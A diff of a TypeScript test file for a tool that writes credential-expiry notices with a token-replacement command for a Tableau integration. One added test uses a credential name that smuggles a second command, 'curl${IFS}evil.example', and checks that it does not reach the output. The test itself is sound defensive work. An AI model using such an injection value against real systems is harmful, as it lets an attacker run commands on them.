@@ -5,20 +5,25 @@ import { noticeText } from '../../../functions/expiry/notice-text.ts';
 import type { NoticedIntegration } from '../../../functions/expiry/noticed-integration.ts';
 import { DAY_MS, HOUR_MS, NOW } from '../rotation/record-fixture.ts';
 
-const credential = { name: 'tableau-a', expiresAt: NOW + 7.5 * DAY_MS, expirySource: 'reported' } as const;
+const credential = {
+  name: 'tableau-a',
+  kind: 'refresh-token',
+  expiresAt: NOW + 7.5 * DAY_MS,
+  expirySource: 'reported',
+} as const;
 const about: NoticedIntegration = {
   integration: 'tableau',
   owner: 'team-data',
   baseUrl: 'https://acme.alationcloud.com',
   accessTokenExpiresAt: NOW + 5 * HOUR_MS,
+  credentialKinds: ['refresh-token'],
   notices: [],
 };
 const text = (notice: Notice, changes: Partial<NoticedIntegration> = {}) =>
   noticeText({ ...about, ...changes }, notice, { now: NOW, secretPrefix: 'alation' });
 
 const LINK = 'https://acme.alationcloud.com/account/auth';
-const COMMAND =
-  'aws secretsmanager put-secret-value --secret-id alation/tableau/credentials --secret-string file://credentials.json';
+const COMMAND = 'npx alation-tokens replace tableau';
 
 test.each<Notice>([
   { kind: 'refresh-token-expiring', credential, stage: 7 },
@@ -113,7 +118,35 @@ test('without an access token nobody is told that one lasts', () => {
   );
 });
 
-test('whoever stores one new refresh token is told not to lose the others', () => {
+test.each<Notice>([
+  { kind: 'refresh-token-expiring', credential, stage: 7 },
+  { kind: 'refresh-token-expired', credential },
+  { kind: 'credential-rejected', credential },
+  { kind: 'client-secret-old', credential, storedAt: NOW },
+])('$kind names the credential in the command, which matters where there are several', (notice) => {
+  expect(text(notice)).toMatch(/npx alation-tokens replace tableau --name tableau-a$/m);
+});
+
+test('when every credential was rejected, any of them may be replaced', () => {
+  expect(text({ kind: 'all-rejected' })).toMatch(/npx alation-tokens replace tableau$/m);
+});
+
+test('the command carries the prefix of another rotator', () => {
+  const notice: Notice = { kind: 'refresh-token-expiring', credential, stage: 7 };
+  expect(noticeText(about, notice, { now: NOW, secretPrefix: 'acme' })).toMatch(
+    /npx alation-tokens replace tableau --name tableau-a --prefix acme$/m,
+  );
+});
+
+test('a name that somebody wrote into a tag puts nothing else into the command', () => {
+  const notice: Notice = {
+    kind: 'credential-rejected',
+    credential: { ...credential, name: 'a;curl${IFS}evil.example' },
+  };
+  expect(text(notice)).toMatch(/npx alation-tokens replace tableau$/m);
+});
+
+test('whoever stores one new refresh token by hand is told not to lose the others', () => {
   expect(text({ kind: 'refresh-token-expiring', credential, stage: 7 })).toContain('every credential');
 });
 
